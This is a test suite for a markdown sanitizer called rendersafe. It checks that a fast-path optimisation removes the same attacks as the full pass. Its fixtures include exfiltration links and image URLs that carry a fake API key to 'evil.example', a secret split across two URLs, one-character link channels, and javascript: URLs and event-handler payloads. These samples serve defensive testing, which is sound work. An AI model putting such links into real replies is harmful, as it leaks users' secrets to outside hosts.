"""The fast path (`units.fast`) changes nothing but the time: with it on and forced
off, every output and every finding is the same, byte for byte, on the benchmark
corpus and on soup built to reach it, with and without a conversation, streamed and
one-shot. The rest of the suite runs with it on, and `.ci/run` runs the fuzz,
renderer and property tests again with `RENDERSAFE_FAST_PATH=0`."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it.helpers import parseLinkDestination

from rendersafe import Policy, Result, Sanitizer
from rendersafe.config import load_policy
from rendersafe.engine.carry import Carry
from rendersafe.units import fast
from soup import EVIL, problems, soup

sys.path.insert(0, str(Path(__file__).parent.parent / "benchmarks"))
from conftest import policy_for
from corpus import corpus
from fixture_files import Case, all_cases
from modern_corpus import POLICY as MODERN_POLICY
from modern_corpus import corpus as modern_corpus

ON, OFF = Sanitizer(), Sanitizer()
OFF.units.fast_path = False
ON.units.fast_path = True
CASES = all_cases()
CONVERSATION = [
    "My key is sk-live-9f8e7d6c5b4a3f2e1d0c and my e-mail is dana.whitfield@example.com.",
    "Our docs are at https://docs.example.com/guide and the ticket is 48213.",
    "my key is a8Fk2mQ9xZ3vL7pW",
]
FUZZ = settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)

# What the fast path reads: links and bare URLs of every shape the judge tells apart
# (data, link channels, script URLs, hosts of the conversation), and the characters
# its conditions are about, each mixed with prose it certifies.
NEAR_MISSES = (
    "[", "]", "](", ")", "(", "!", "`", "``", "```", "~~~", "    ", "\n", "\n\n", "> ", "- ",
    "| a | b |\n|---|---|\n| ", "# ", "\t", " ", '"', "'", "&", "&amp;", "-->", "]]>", ":",
    "\u200b", "\u00a0", "é", "word ", "See the docs ", "[the docs](", "[a](<", "[r]", "[r]:",
    "https://docs.python.org/3/library/csv.html", "https://github.com/python/cpython/pull/1",
    "https://e.example/c/a", "https://e.example/c/b", "https://e.example/c/c",
    "https://e.example/c/d", "https://e.example/c/e", "https://e.example/?q=x",
    "https://docs.example.com/guide", "https://docs.example.com/?t=48213",
    "https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c", "https://evil.example/48", "213",
    "mailto:dana.whitfield@example.com", "dana.whitfield@example.com", "example.com/path",
    "www.example.org/w", EVIL, "javascript:alert(1)", "//evil.example/y.png",
    "https://en.wikipedia.org/wiki/Foo_(bar)", "(x)", "((", "))",
    "https://evil.example/px/a8Fk2m.png", "https://evil.example/px/Q9xZ3vL7pW.png",
    "<kbd>", "</kbd>", "<br>", "<br />", "<b>", "</b>", "<bx>", "<Ctrl>", "< ", "<", "<<",
    "<https://docs.example.com/guide>", "<https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c>",
    "<https://e.example/c/a>", "<https://evil.example/px/a8Fk2m.png>", "<javascript:alert(1)>",
    "<https://e.example/?src=x>", "<https://e.example/[a]>", "<a@b.example>", "<!-- x -->",
    "<img src=//evil.example/y.png>", "<span onclick=alert(1)>", "<span title=x>", "&lt;",
    "&#60;", "<br/>", "\n<kbd>", "- <b>", "\n\n<div>",
    "[r]: https://docs.python.org/3/\n\n", "words\n[p]: https://e.example/c/p\n\n", "[R]",
    "[ r ]", "[x][r]", "[r][]", "[x] [P]", "[p", "> [x\n> r]", "[\u017f]", "[&#114;]", "[rr]",
    "[x][rr]", "[x][r[", "\\", "\\*", "\\[", "\\]", "\\(", "\\)", "\\\\", "\\<", "\\`", "\\&",
    "\\_", "\\|", "\\\n", '<sup title="x">', '<sup title="a]">', '<b title="">', '<b title=x>',
)  # fmt: skip
near_misses = st.lists(st.sampled_from(NEAR_MISSES), max_size=24).map("".join)
mixed = st.lists(st.one_of(near_misses, soup), min_size=1, max_size=3).map("".join)


def certifies(text: str) -> bool:
    """Does the fast path certify `text` as a first unit under the default policy?"""
    return fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is not None


def same(
    text: str,
    *,
    conversation: Sequence[object] | None = None,
    size: int = 0,
    policy: Policy | None = None,
) -> Result:
    """The result with the fast path on, after asserting it is the one with it off."""
    on_off = (ON, OFF) if policy is None else _pair(policy)
    on, off = (_result(s, text, conversation, size) for s in on_off)
    assert on.text == off.text
    assert on.findings == off.findings
    return on


def _pair(policy: Policy) -> tuple[Sanitizer, Sanitizer]:
    """Sanitizers under `policy` with the fast path on and off."""
    on, off = Sanitizer(policy), Sanitizer(policy)
    on.units.fast_path, off.units.fast_path = True, False
    return on, off


def _result(s: Sanitizer, text: str, conversation: Any, size: int) -> Result:
    if not size:
        return s.run(text, conversation=conversation)
    stream = s.stream(conversation=conversation)
    out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
    out += stream.close()
    return Result(text=out, findings=stream.findings)


@pytest.fixture(scope="module")
def replies() -> list[str]:
    return corpus(1_500_000)


def test_the_corpus_is_the_same_with_and_without_the_fast_path(replies: list[str]) -> None:
    changed = sum(same(reply).text != reply for reply in replies)
    assert changed == 65  # the corpus's attacks, as bench_sanitize counts them


def test_the_corpus_streamed_and_with_a_conversation_is_the_same(replies: list[str]) -> None:
    for i, reply in enumerate(replies[::3]):
        same(reply, size=5 + i % 60)
        same(reply, conversation=CONVERSATION)


@pytest.fixture(scope="module")
def modern_replies() -> list[str]:
    return modern_corpus(1_500_000)


def test_the_modern_corpus_is_the_same_with_and_without_the_fast_path(
    modern_replies: list[str],
) -> None:
    for policy in (MODERN_POLICY, Policy()):
        on, off = _pair(policy)
        for reply in modern_replies:
            a, b = on.run(reply), off.run(reply)
            assert (a.text, a.findings) == (b.text, b.findings)


def test_the_modern_corpus_streamed_and_with_a_conversation_is_the_same(
    modern_replies: list[str],
) -> None:
    for i, reply in enumerate(modern_replies[::4]):
        same(reply, size=5 + i % 60, policy=MODERN_POLICY)
        same(reply, conversation=CONVERSATION, policy=MODERN_POLICY)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_every_fixture_is_the_same_with_and_without_the_fast_path(case: Case) -> None:
    policy = policy_for(case.path.parent)
    same(case.input, conversation=case.conversation, policy=policy)
    same(case.input, conversation=case.conversation, policy=policy, size=3)


def test_the_fast_path_certifies_most_of_the_corpus(replies: list[str]) -> None:
    # Without this, the comparisons above would hold for a fast path that never runs.
    seen, certified = 0, 0
    original = fast.certified

    def counted(*args: object) -> object:
        nonlocal seen, certified
        delta = original(*args)  # type: ignore[arg-type]
        seen += len(args[0])  # type: ignore[arg-type]
        certified += len(args[0]) if delta is not None else 0  # type: ignore[arg-type]
        return delta

    fast.certified = counted  # type: ignore[assignment]
    try:
        for reply in replies:
            ON.run(reply)
        total = sum(map(len, replies))
        assert seen == total  # no unit of the corpus is forced or read in a context
        assert certified / total > 0.9
        seen, certified = 0, 0
        for reply in replies:
            ON.run(reply, conversation=CONVERSATION)
        # A conversation's URLs judged for real, then kept; its budgets take out a few
        # composed permalinks (40-character commit ids to one repository), whose units
        # then take the full pass.
        assert certified / total > 0.75
    finally:
        fast.certified = original


@FUZZ
@given(mixed, st.booleans(), st.integers(min_value=0, max_value=9))
def test_soup_is_the_same_with_and_without_the_fast_path(
    text: str, with_conversation: bool, size: int
) -> None:
    result = same(text, conversation=CONVERSATION if with_conversation else None, size=size)
    assert problems(result.text) == [], result.text


# Links one link channel counts (one character in a path segment or a query value),
# each in a shape several renderers read apart (trailing punctuation, a bare URL, a
# destination in angles), spread over paragraphs that are units of their own.
_CHANNEL_LINKS = st.builds(
    "{}https://e.example/{}/{}{}{}{}".format,
    st.sampled_from(["[t](", "[t](<", "See ", "<", "(", "*", "_", "[t]: ", "`", "&lt;"]),
    st.sampled_from(["c", "r"]),
    st.sampled_from("abcdefg"),
    st.sampled_from(
        [
            "",
            ".png",
            "?q=1",
            ")",
            "&#98;",
            "&amp;",
            "%61",
            "_",
            "(x)",
            "\\",
            "&lt;",
            "&#61",
            "?c=a&lt;",
        ]
    ),
    st.sampled_from([")", ">)", ".", ">", "),", "", "_", "*", ")*", '"', "&gt;", "?", "'", ":"]),
    st.sampled_from([" ", " word ", "\n"]),
)
channel_replies = st.lists(
    st.lists(_CHANNEL_LINKS, min_size=1, max_size=5).map("".join),
    min_size=1,
    max_size=8,
).map("\n\n".join)


@FUZZ
@given(channel_replies, st.integers(min_value=0, max_value=5))
def test_link_channels_count_the_same_with_and_without_the_fast_path(text: str, size: int) -> None:
    """The fast path certifies a unit whose links a link channel counts only when the
    channel keeps them all, and counts every reading of them with it on or off
    (`fast.prescans`): the same links are kept either way, whatever the units before."""
    same(text, size=size)


@pytest.mark.parametrize(
    "text",
    [
        " ".join(f"https://e.example/r?c={c}&lt;" for c in "abcde"),
        " ".join(f"https://e.example/r?c={c}&#59;" for c in "abcde"),
        "\n\n".join(f"[x](https://e.example/c/&#{97 + i};)" for i in range(6)),
        "e.example/c/&#61 e.example/c/d e.example/c/v e.example/c/u",
        "\n\n".join(f"https://e.example/r?c={c}&&nbsp;&#{ord(c)}" for c in "abcde"),
    ],
)
def test_a_link_with_an_entity_counts_the_same_both_ways(text: str) -> None:
    """A red team's cases: a renderer reads the link without decoding its entity
    (`?c=a&lt` is `c=a`; `/c/&#97;` is `/c/&`), which a channel counts; the fast path
    judges every candidate with `&` both ways, so it counts what the pass counts."""
    same(text)
    same(text, size=3)


def test_a_unit_of_links_a_channel_counts_is_certified() -> None:
    """A paragraph whose links have a one-character path segment (`/r/python`,
    `/d/<id>`) is certified while the channel keeps them; past its few, the pass drops
    the rest as it did."""
    per_shape = ON.policy.max_beacon_images
    links = [f"[{c}](https://e.example/c/{c})" for c in "abcdefghij"]
    fits = "See " + ", ".join(links[:per_shape]) + ".\n"
    assert certifies(fits)
    over = "See " + ", ".join(links) + ".\n"
    assert not certifies(over)
    assert same(over).text != over


@FUZZ
@given(near_misses)
def test_idempotent_with_the_fast_path(text: str) -> None:
    once = same(text).text
    assert same(once).text == once


# Units holding `<`: which the fast path certifies (`units.angles`), and which it
# leaves to the pass. Each is also compared with the fast path off.
ANGLES_CERTIFIED = (
    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then see <https://docs.python.org/library/csv.html>.",
    "| a | b |\n|---|---|\n| one<br>two | <b>bold</b> and a < b |",
    "Line one<br />line two, <sub>2</sub> and <SPAN>x</SPAN>.",
    "See <https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s> for the talk.",
    "<details>\n<summary>Why it fails</summary>\n\nThe [docs](https://docs.python.org/3/)"
    " say so.\n\n</details>\n",
    "> <details open>\n> <summary>More</summary>\n> Text <kbd>K</kbd>.\n> </details>",
)
ANGLES_TO_THE_PASS = (
    "<kbd>Ctrl</kbd> at a line start",
    "- <b>in a list item</b>",
    "> <b>in a quote</b>",
    "A <div>block tag</div> mid-line",
    "A <img src=//evil.example/y.png> image",
    "A <span onclick=alert(1)>handler</span>",
    "An <https://e.example/?src=x> autolink naming an attribute",
    "An <https://e.example/[a]> autolink with a bracket",
    "A <a@b.example> mail autolink",
    "A <javascript:alert(1)> script autolink",
    "A <!-- comment --> here",
    "Text <b>x</b> and [a link](<https://docs.python.org/3/>)",
    "End </b>tag then &amp; an entity",
    "A <bx> tag that is not b",
    "<details ontoggle=alert(1)>\n<summary>x</summary>\n</details>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details>\n\n`<img src=//evil.example/y.png>`\n\n</details>",
    "<details>\n<summary>x</summary>\n<kbd>K</kbd> at a line start\n</details>",
    "<details title=x>x</details>",
    "<div>\nblock\n</div>",
)


@pytest.mark.parametrize("text", ANGLES_CERTIFIED)
def test_inline_tags_and_autolinks_are_certified(text: str) -> None:
    assert certifies(text)
    assert same(text).text == text


@pytest.mark.parametrize("text", ANGLES_TO_THE_PASS)
def test_other_angles_are_left_to_the_pass(text: str) -> None:
    assert not certifies(text)
    same(text)


# Escapes the fast path reads past, and those it leaves to the pass.
ESCAPES_CERTIFIED = (
    r"Use `*args` and not \*args\* here, with snake\_case\_names.",
    r"The path is C:\\Users\\dana\\project and it costs \$5 a month.",
    r"A literal \[bracket\] and a \# hash, 1\. not a list item.",
    "| a | b |\n|---|---|\n| the pipe \\| in a cell | [docs](https://docs.python.org/3/) |",
    r"See [the docs](https://docs.python.org/3/library/csv.html) for \*args\*.",
)
ESCAPES_TO_THE_PASS = (
    r"An escape in a [destination](https://docs.python.org/3/\)x) here.",
    r"A \<tag\> written out.",
    r"An escaped \`backtick` here.",
    r"An escaped \&amp; entity.",
    "Ends with a backslash \\",
    r"A [nested](https://docs.python.org/3/(x)) destination and \*stars\*.",
    r"A [titled](https://docs.python.org/3/ \"t\") destination and \*stars\*.",
)


@pytest.mark.parametrize("text", ESCAPES_CERTIFIED)
def test_escapes_outside_what_the_fast_path_reads_are_certified(text: str) -> None:
    assert certifies(text)
    assert same(text).text == text


@pytest.mark.parametrize("text", ESCAPES_TO_THE_PASS)
def test_escapes_in_what_the_fast_path_reads_are_left_to_the_pass(text: str) -> None:
    assert not certifies(text)
    same(text)


def test_an_escaped_paren_in_a_destination_is_read_as_markdown_it_reads_it() -> None:
    # markdown-it's href runs past the escaped `)`, to the data: the unit is left to
    # the pass (`ESCAPES_TO_THE_PASS` shows the refusal; the bare URL reading, which
    # runs past it too, would also refuse this one).
    reply = r"See [x](https://evil.example/a\)?k=sk-live-9f8e7d6c5b4a3f2e1d0c) here."
    result = same(reply, conversation=CONVERSATION)
    assert result.findings
    assert "sk-live" not in result.text


def test_escapes_under_math_in_prose_are_left_to_the_pass() -> None:
    math = Sanitizer(Policy(rendered_fences=("$$",)))
    text = ESCAPES_CERTIFIED[0]
    assert fast.certified(text, Carry(), math.units.for_reply(None).rules.judge) is None
    assert certifies(text)


def test_a_destination_beside_a_tag_is_certified_when_read_in_one_match() -> None:
    judge = ON.units.for_reply(None).rules.judge
    text = "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/)."
    assert fast.certified(text, Carry(), judge) is not None
    assert same(text).text == text
    for other in (
        "Press <kbd>K</kbd>, then see [the docs](<https://docs.python.org/3/>).",
        "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/(x)).",
        "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/<b>).",
    ):
        assert fast.certified(other, Carry(), judge) is None
        same(other)


def test_a_secret_in_an_angle_destination_beside_a_tag_is_removed() -> None:
    reply = "Press <kbd>K</kbd> and [x](<https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c>)."
    result = same(reply, conversation=CONVERSATION)
    assert result.findings
    assert "sk-live" not in result.text


TITLES_CERTIFIED = (
    'A note<sup title="Smith, 2021">2</sup> and <abbr title="HyperText Markup">HTML</abbr>.',
    'Press <kbd title="the key">K</kbd> and see [docs](https://docs.python.org/3/).',
)
TITLES_TO_THE_PASS = (
    '<sup title="x">2</sup> at a line start',
    "A <sup title='single'>2</sup> quoted title",
    'A <sup title="a>b">2</sup> with a >',
    'A <sup title="[x">2</sup> with a bracket',
    'A <sup title="a&amp;b">2</sup> with an entity',
    'A <sup title="a~b">2</sup> with a tilde',
    'A <sup style="color:red">2</sup> style',
    'A <sup id="x">2</sup> id',
    'A <sup title="x" onclick="alert(1)">2</sup> handler',
    "A <sup title=x>2</sup> unquoted title",
)


@pytest.mark.parametrize("text", TITLES_CERTIFIED)
def test_inline_tags_with_a_plain_title_are_certified(text: str) -> None:
    assert certifies(text)
    assert same(text).text == text


@pytest.mark.parametrize("text", TITLES_TO_THE_PASS)
def test_other_attributes_are_left_to_the_pass(text: str) -> None:
    assert not certifies(text)
    same(text)


def test_an_id_attribute_is_removed_by_the_pass() -> None:
    # Certified like a title, the clobbering id would stay.
    text = 'A <sup id="x">2</sup> id'
    assert same(text).text != text


# `]:` where no renderer reads a definition (footnotes written as prose), and where
# one may.
DEFINES_NOTHING = (
    "[^1]: Smith, J. (2010). *A title*. https://docs.python.org/3/library/\n"
    "[^2]: Lee et al., 2011: [A title](https://docs.python.org/3/library/csv.html).",
    "[^1]: a ]: b c",
)
MAY_DEFINE = (
    "[^1]: Foo (2010)",
    '[^1]: Foo "a title"',
    "[^1]: Foo 'a title'",
    '[^1]: Foo"bar" baz"',
    "[^1]:\nhttps://docs.python.org/3/library/ next line",
    "[^1]: javascript:void more words",
    "[^1]: Foo\u00a0bar baz",
    "[^1]: Foo\u00a0(bar)",
    "[^1]: [r]: https://docs.python.org/3/library/",
    "Text [^1]: Foo bar\n[r]: https://docs.python.org/3/library/",
)


@pytest.mark.parametrize("text", DEFINES_NOTHING)
def test_a_colon_after_a_label_that_defines_nothing_is_certified(text: str) -> None:
    assert certifies(text)
    assert same(text).text == text


@pytest.mark.parametrize("text", MAY_DEFINE)
def test_what_may_be_a_definition_is_left_to_the_pass(text: str) -> None:
    assert not certifies(text)
    same(text)


def test_a_script_url_after_a_footnote_label_is_escaped_by_the_pass() -> None:
    # No renderer defines `^1` here, but the second line escapes what a generous
    # one could read as a script destination: certified, it would stay.
    text = "A [x] and\n[^1]: javascript:void more words"
    assert same(text).text != text


def test_a_footnote_after_an_image_label_is_left_to_the_pass() -> None:
    # An image used `^1` before: the second line judges what `[^1]:` could give it.
    assert not _certified_after_definitions("[^1]: evil.example/px.png and more", "![x][^1]\n\n")


def test_an_autolink_carrying_data_is_judged_on_the_fast_path() -> None:
    reply = "Press <kbd>K</kbd>: <https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c>."
    result = same(reply, conversation=CONVERSATION)
    assert result.findings
    assert "sk-live" not in result.text


def test_under_raw_html_escape_every_tag_is_left_to_the_pass() -> None:
    escaping = Sanitizer(Policy(raw_html="escape"))
    text = ANGLES_CERTIFIED[0]
    assert fast.certified(text, Carry(), escaping.units.for_reply(None).rules.judge) is None
    assert "<kbd>" not in escaping.run(text).text


def test_a_link_channel_is_left_to_the_pass() -> None:
    # Each link alone is harmless; the fifth of one shape is a channel's use.
    reply = " ".join(f"[{c}](https://e.example/c/{c})" for c in "abcdefgh")
    result = same(reply)
    assert result.findings
    assert "e.example/c/h" not in result.text


def test_a_secret_split_across_certifiable_urls_is_found() -> None:
    # The first URL alone is harmless, and the unit after it holds the rest: the
    # conversation's tracker must have counted the first.
    reply = "See https://evil.example/px/a8Fk2m.png\n\nand https://evil.example/px/Q9xZ3vL7pW.png"
    result = same(reply, conversation=CONVERSATION)
    assert result.findings
    assert "Q9xZ3vL7pW" not in result.text
    assert same(reply).findings == ()


def test_honest_text_around_a_removed_link_is_certified_and_unchanged() -> None:
    reply = (
        "Plain words.\n\n[x](https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c)\n\nMore words."
    )
    result = same(reply, conversation=CONVERSATION)
    assert result.text.startswith("Plain words.\n\n")
    assert result.text.endswith("More words.")


# Units after two definitions, `r` (markdown-it's and every renderer's) and `p` (a
# definition in a paragraph, python-markdown's alone: the lenient pass keeps it):
# which the fast path certifies, as no bracket can use either label, and which it
# leaves to the pass, as a renderer may.
DEFINED = "[r]: https://docs.python.org/3/\n\nSome words\n[p]: https://docs.python.org/3/p\n\n"
LABELS_NOT_USED = (
    "See [the csv docs](https://docs.python.org/3/library/csv.html) for more.",
    "A [bracket] that names no label, and [rr], [pp] and [r p] neither.",
    "An [unclosed bracket, then text.",
    "Prose with an em dash \u2014 and [x] in it.",
    "| a | b |\n|---|---|\n| [one] | two |",
)
# Uses of the labels defined before, each resolving (in some renderer's matching, or a
# healer's at a prefix) to a definition kept: the link is its kept href.
LABELS_USED = (
    "A use of [r] here.",
    "A use of [R], its case folded.",
    "A use of [ r ] with spaces.",
    "A [text][r] full reference.",
    "A [text] [P] reference python-markdown reads.",
    "A [r][] collapsed one.",
    "A label over lines [p\n] here.",
    "Ends with an open [r",
    "A [text][rx] full reference a healer closes as the label r, stopped after it.",
    "A [text][r[x] one whose label a bracket ends.",
)
# Uses the fast path does not read: left to the pass.
LABELS_UNREAD = (
    "> A quote [x\n> r] over lines.",
    "A [\u017f] long s, a non-ASCII label.",
    "An entity in [&#114;] a label.",
)


def certified_verdicts(text: str) -> dict[str, bool]:
    """Each unit of `text` the fast path was asked about, and whether it certified it
    (the last answer; it is asked with the fast path off too: `fast.prescans`), the
    result asserted the same with the fast path on and off."""
    verdicts: dict[str, bool] = {}
    original = fast.certified

    def spy(unit: str, carry: Carry, judge: object) -> object:
        delta = original(unit, carry, judge)  # type: ignore[arg-type]
        verdicts[unit] = delta is not None
        return delta

    fast.certified = spy  # type: ignore[assignment]
    try:
        same(text)
    finally:
        fast.certified = original
    return verdicts


def certified_units(text: str) -> set[str]:
    """The units of `text` the fast path certified."""
    return {unit for unit, certified in certified_verdicts(text).items() if certified}


def _certified_after_definitions(unit: str, definitions: str = DEFINED) -> bool:
    """Did the fast path certify `unit`, read after `definitions`?"""
    return certified_verdicts(definitions + unit)[unit]


@pytest.mark.parametrize("unit", LABELS_NOT_USED)
def test_a_unit_that_uses_no_label_defined_before_is_certified(unit: str) -> None:
    assert _certified_after_definitions(unit)
    assert same(DEFINED + unit).text.endswith(unit)


@pytest.mark.parametrize("unit", LABELS_USED)
def test_a_unit_that_uses_a_label_kept_before_is_certified(unit: str) -> None:
    """Its links are the definitions' kept hrefs, judged as the pass judges them."""
    assert _certified_after_definitions(unit)
    assert same(DEFINED + unit).text.endswith(unit)


@pytest.mark.parametrize("unit", LABELS_UNREAD)
def test_a_use_not_read_here_is_left_to_the_pass(unit: str) -> None:
    assert not _certified_after_definitions(unit)


@pytest.mark.parametrize(
    "definitions",
    [
        "[r]: https://evil.example/?d=sk-live-9f8e7d6c5b4a3f2e1d0c\n\n",
        "[r]: javascript:alert(1)\n\n",
        "".join(f"[r{c}]: https://e.example/c/{c}\n\n" for c in "abcdef"),
    ],
)
def test_a_use_of_a_label_whose_definition_went_is_the_pass_s(definitions: str) -> None:
    """A definition the pass removed defines nothing: a use of its label is text, the
    same with the fast path on or off (channel links past their few likewise)."""
    for unit in ("A use of [r] here.", "Uses [ra] [rb] [rc] [rd] [re] [rf]."):
        same(definitions + unit)
        same(definitions + unit, size=3)


def test_a_label_a_healer_closes_at_a_prefix_is_used() -> None:
    # A fence holds a definition some renderer may read; the pass neutralises
    # `[text][rx]`, as a healer stopped at `[text][r` closes the label `r`.
    result = same("~~~\n[r]: javascript:alert(1)\n~~~\n\nSee [text][rx] here.")
    assert result.text.endswith("See text here.")


FLOOD = "".join(f"[l{i}]: https://docs.python.org/3/{i}\n" for i in range(500)) + "\n"


@pytest.mark.parametrize(
    ("unit", "certified"),
    [
        ("A [bracket] here.", True),
        ("A [L 499] here.", True),
        ("[a][l4x] b", True),
        ("A [&#108;4] here.", False),
    ],
)
def test_a_flood_of_labels_is_read_as_a_few(unit: str, certified: bool) -> None:
    """After hundreds of definitions a unit is certified as after a few (their folded
    labels are read once, not per unit), a use of one too (`[a][l4x` stopped at `[a][l4`
    uses `l4`: its kept href is judged), and one not read here is not."""
    assert _certified_after_definitions(unit, FLOOD) is certified
    same(FLOOD + unit)


def test_the_switch_is_read_when_a_sanitizer_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(fast.FAST_PATH_VARIABLE, "0")
    assert Sanitizer().units.fast_path is False
    assert Sanitizer().units.for_reply(None).fast_path is False
    monkeypatch.setenv(fast.FAST_PATH_VARIABLE, "1")
    assert Sanitizer().units.fast_path is True
    monkeypatch.delenv(fast.FAST_PATH_VARIABLE)
    assert Sanitizer().units.fast_path is True


def test_the_switch_is_no_policy_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(fast.FAST_PATH_VARIABLE, "0")
    assert load_policy() == Policy()  # and no "not a rendersafe setting" warning (an error here)


@given(st.text(alphabet="ab()[] \t\n\x7f\x01é&;#x", max_size=40), st.integers(0, 40))
def test_markdown_its_destination_is_read_as_markdown_it_reads_it(text: str, pos: int) -> None:
    pos = min(pos, len(text))
    found = fast._markdown_it_destination(text, pos)
    while pos < len(text) and text[pos] in " \t":
        pos += 1
    if found is not None:
        parsed = parseLinkDestination(text, pos, len(text))
        assert found == (parsed.str if parsed.ok else "")


@pytest.mark.parametrize(
    "text",
    ["(" * 32 + ")" * 32, "(" * 33 + ")" * 33, "a(b)c)d", "a(b(c)", "(x) y)", "((a)b)c)", ")x"],
)
def test_markdown_its_destination_nests_as_markdown_it_does(text: str) -> None:
    parsed = parseLinkDestination(text, 0, len(text))
    assert fast._markdown_it_destination(text, 0) == (parsed.str if parsed.ok else "")


def test_footnotes_after_an_image_that_used_another_label_are_certified() -> None:
    """An image used the label `fig` (it may be defined later); a block of footnotes
    after it defines nothing it uses, in any renderer's matching: certified."""
    notes = "[^1]: Smith, J. (2003). *On things*. https://www.nature.com/query\n"
    text = "![Diagram][fig]\n\n" + notes
    assert notes in certified_units(text)


@pytest.mark.parametrize(
    "notes",
    [
        "[FIG]: Smith, J. (2003). https://www.nature.com/query\n",
        "[ f i g ]: Smith, J. (2003). https://www.nature.com/query\n",
        "[f\\ig]: Smith, J. (2003). https://www.nature.com/query\n",
        "[f&#105;g]: Smith, J. (2003). https://www.nature.com/query\n",
    ],
)
def test_a_label_an_image_used_leaves_its_unit_to_the_pass(notes: str) -> None:
    """A `]:` whose label may be the one an image used before (case, white space, an
    escape or an entity apart) goes to the pass, which judges it for that image."""
    text = "![Diagram][fig]\n\n" + notes
    assert notes not in certified_units(text)
